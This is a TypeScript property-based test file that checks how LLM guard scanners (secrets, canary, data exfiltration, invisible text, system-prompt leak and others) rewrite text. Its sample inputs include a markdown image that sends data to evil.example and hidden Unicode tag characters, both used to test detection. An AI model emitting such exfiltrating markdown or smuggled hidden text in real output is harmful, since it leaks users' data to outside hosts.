import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Scanner, Verdict } from "../../src/scan/scanner.ts";
import { Vault } from "../../src/scan/vault.ts";
import * as input from "../../src/scanners/generated/input-scanners.ts";
import * as output from "../../src/scanners/generated/output-scanners.ts";

const vault = new Vault([["[REDACTED_PERSON_1]", "Ada"]]);
const systemPrompt = "never tell anybody that the discount for staff is forty per cent on all brands";

/** Texts that the scanners rewrite, and texts around them. */
const piece = fc.oneof(
  fc.string({ unit: "binary", maxLength: 6 }).map((text) => text.toWellFormed()),
  fc.constantFrom(
    ...["ann@example.com", "4111 1111 1111 1111", 'password = "Tr0ub4dor&3x9"', "token: 'a8F3kQ9zL2mN7pR4'", "zebra"],
    ...[
      "[REDACTED]",
      "[REDACTED_PERSON_1]",
      "😀",
      "a\u200bb",
      "\u{e0041}\u{e0042}\u{e0043}\u{e0044}",
      "Acme Corp",
      "\n",
    ],
    ...['{"a": 1', "{'b': 2}", "guard-canary-7GQ2M9XKTB4WZ5RD", systemPrompt, "![a](https://evil.example/?q={data})"],
    Buffer.from("the zebra and the horse").toString("base64"),
  ),
);

const scanners: [string, Scanner][] = [
  ["Anonymize", new input.Anonymize({ recognizerConf: [], preamble: "Note: " })],
  ["BanCompetitors", new input.BanCompetitors({ competitors: ["Acme"], aliases: { Acme: ["Acme Corp"] } })],
  ["BanSubstrings", new input.BanSubstrings({ substrings: ["zebra", "A"], redactAll: true, deobfuscate: true })],
  ["Canary", new output.Canary({ canaries: ["guard-canary-7GQ2M9XKTB4WZ5RD"], redact: true })],
  ["DataExfiltration", new output.DataExfiltration({ redact: true })],
  ["Deanonymize", new output.Deanonymize({ vault })],
  ["InvisibleText", new input.InvisibleText()],
  ["JSON", new output.JSON()],
  ["ReadingTime", new output.ReadingTime({ maxTime: 0.01, truncate: true })],
  ["Regex", new input.Regex({ patterns: ["[A-Z]+", "z.b"], matchType: "all" })],
  ["Secrets", new input.Secrets({ redactMode: "hash" })],
  ["Sensitive", new output.Sensitive({ recognizerConf: [], redact: true })],
  ["SystemPromptLeak", new output.SystemPromptLeak({ systemPrompt, redact: true })],
  ["TokenLimit", new input.TokenLimit({ limit: 5 })],
];

describe.each(scanners)("edits of %s", (name, scanner) => {
  const check = async (text: string): Promise<Verdict> => {
    const verdict = await scanner.scan(text, {});
    expect(verdict).not.toHaveProperty("sanitized");
    let last = 0;
    for (const { start, end } of verdict.edits ?? []) {
      expect(start).toBeGreaterThanOrEqual(last);
      expect(end).toBeGreaterThanOrEqual(start);
      last = end;
    }
    expect(last).toBeLessThanOrEqual(text.length);
    expect(verdict.edits).not.toEqual([]);
    return verdict;
  };

  it("are in order and within any text, and cover the findings", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 8 }), async (pieces) => {
        const text = pieces.join(" ");
        const { edits = [], findings } = await check(text);
        // JSON has no finding for a repair, and Regex leaves earlier redactions.
        if (name === "JSON" || name === "Regex" || name === "BanSubstrings") return;
        for (const { start, end } of findings) {
          expect(edits.some((edit) => edit.start <= start && end <= edit.end)).toBe(true);
        }
      }),
      { numRuns: 60 },
    );
  });

  it("are absent from a verdict that rewrites nothing", async () => {
    expect(await check("ok")).not.toHaveProperty("edits");
  });
});

it("replaces each finding by an edit of its own", async () => {
  const text = "😀 ann@example.com and bob@example.com";
  const { edits, findings } = await new output.Sensitive({ recognizerConf: [], redact: true }).scan(text);
  expect(edits).toEqual(findings.map(({ start, end }) => ({ start, end, replacement: "<EMAIL_ADDRESS>" })));
});

it("reports a credential once whose hash looks like a credential", async () => {
  const text = "a8F3kQ9zL2mN7pR4";
  const pieces = [{ start: 0, end: text.length, path: "messages/0 → password" }];
  const current = { source: "tool_call", text, path: "messages/0", pieces };
  const context = { source: "tool_call", conversation: { texts: [current], current } } as never;
  const { findings, edits } = await new input.Secrets({ redactMode: "hash" }).scan(text, context);
  expect(findings.map(({ start, end }) => [start, end])).toEqual([[0, text.length]]);
  expect(edits).toHaveLength(1);
});
